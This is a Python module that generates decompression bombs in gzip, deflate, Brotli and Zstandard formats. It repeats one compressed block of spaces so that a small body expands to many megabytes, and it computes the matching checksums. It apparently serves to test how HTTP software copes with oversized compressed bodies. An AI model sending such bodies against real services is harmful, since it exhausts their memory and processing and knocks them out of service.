"""Compressed bodies that are small on the wire and huge inside, made without compressing all that: one block, repeated.

Every bomb is of spaces, so that what is read of it is harmless text.
"""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

import brotli

MEGABYTE = 1 << 20
SPACE = b" "
ADLER = 65521
ZSTD_BLOCK = 1 << 17  # the largest there is
BROTLI_BLOCK = 1 << 24


@lru_cache
def deflated(megabytes: int) -> bytes:
    """Raw deflate: after a full flush each block stands for itself, so one serves for all."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(SPACE * MEGABYTE) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * megabytes + packer.flush()


@lru_cache
def gzip(megabytes: int) -> bytes:
    """A gzip file of that many megabytes."""
    start = b"\x1f\x8b\x08" + bytes(6) + b"\xff"
    end = struct.pack("<2I", crc_of_repeats(SPACE * MEGABYTE, megabytes), (megabytes * MEGABYTE) & 0xFFFFFFFF)
    return start + deflated(megabytes) + end


@lru_cache
def deflate(megabytes: int) -> bytes:
    """What HTTP calls deflate: the zlib format."""
    size = megabytes * MEGABYTE
    low, high = (1 + size * SPACE[0]) % ADLER, (size + SPACE[0] * size * (size + 1) // 2) % ADLER
    return b"\x78\xda" + deflated(megabytes) + struct.pack(">I", high << 16 | low)


@lru_cache
def br(megabytes: int) -> bytes:
    """Brotli of that many megabytes, rounded up to sixteen: from the second on, its flushed blocks are all alike."""
    packer = brotli.Compressor(quality=5, lgwin=24)
    first, second = (packer.process(SPACE * BROTLI_BLOCK) + packer.flush() for _ in range(2))
    return bytes(first + second * (-(-megabytes * MEGABYTE // BROTLI_BLOCK) - 1) + packer.finish())


@lru_cache
def zstd(megabytes: int) -> bytes:
    """Zstandard of that many megabytes: blocks that say only which byte to repeat (RFC 8878)."""
    block = (ZSTD_BLOCK << 3 | 1 << 1).to_bytes(3, "little") + SPACE
    window = bytes([10 << 3])  # a megabyte
    return b"\x28\xb5\x2f\xfd" + b"\x00" + window + block * (megabytes * MEGABYTE // ZSTD_BLOCK) + b"\x01\x00\x00"


def crc_of_repeats(block: bytes, times: int) -> int:
    """CRC-32 of a block repeated: one more block changes the sum as a linear map does, learned from its 33 values."""
    constant = zlib.crc32(block)
    columns = [zlib.crc32(block, 1 << bit) ^ constant for bit in range(32)]
    crc = 0
    for _ in range(times):
        after = constant
        for bit, column in enumerate(columns):
            if crc >> bit & 1:
                after ^= column
        crc = after
    return crc
